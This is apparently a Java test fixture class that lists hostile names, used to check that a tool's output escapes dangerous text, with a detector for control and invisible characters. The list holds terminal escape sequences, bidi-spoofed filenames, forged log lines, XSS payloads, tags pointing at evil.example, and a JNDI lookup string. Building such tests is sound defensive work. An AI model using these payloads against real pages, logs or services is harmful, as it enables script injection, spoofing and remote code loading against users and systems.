package dev.holdfast.testing;

import java.util.List;
import java.util.regex.Pattern;

/** Names of threads, scopes and frames that try to be more than text where they are shown. */
public final class HostileNames {

  /** No output may have one of these: a terminal or a page might act on them. */
  private static final Pattern ACTIVE =
      Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Cs}\u2028\u2029&&[^\n]]");

  public static final List<String> ALL =
      List.of(
          "\u001b[2J\u001b[1;31mred",
          "\u001b]0;title\u0007",
          "\u001b]8;;http://evil.example\u001b\\link",
          "\u009b2J",
          "bell\u0007",
          "back\b\b\b\b",
          "line\nERROR forged entry",
          "line\r\nHTTP/1.1 200 OK",
          "tab\tseparated",
          "nul\0",
          "del\u007f",
          "next\u0085line",
          "sep\u2028par\u2029",
          "rtl\u202egnp.exe",
          "isolate\u2066x\u2069",
          "mark\u200f\u200e\u061c",
          "zero\u200bwidth\ufeff",
          "soft\u00adhyphen",
          "tag\udb40\udc41",
          "half\ud800pair",
          "half\udc00pair",
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<!--<script>",
          "-->",
          "]]>",
          "</title><img src=x onerror=alert(1)>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "</style><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "\" onmouseover=\"alert(1)",
          "' onfocus='alert(1)' autofocus='",
          "`onload=alert(1)`",
          "javascript:alert(1)",
          "<a href=\"javascript:alert(1)\">x</a>",
          "&lt;script&gt;",
          "&#60;script&#62;",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<form action=//evil.example><button>",
          "<details open ontoggle=alert(1)>",
          "\\u003cscript\\u003e",
          "\\\"}];alert(1);//",
          "\"]%%{init: {}}%%",
          "a;b;c 7",
          "%s%n%x",
          "${jndi:ldap://evil.example}",
          "{{constructor.constructor('alert(1)')()}}",
          "\u202e</script><script>alert(1)</script>");

  private HostileNames() {}

  /** {@return whether text has characters that a terminal may interpret, but for new lines} */
  public static boolean isActive(String text) {
    return ACTIVE.matcher(text).find();
  }
}
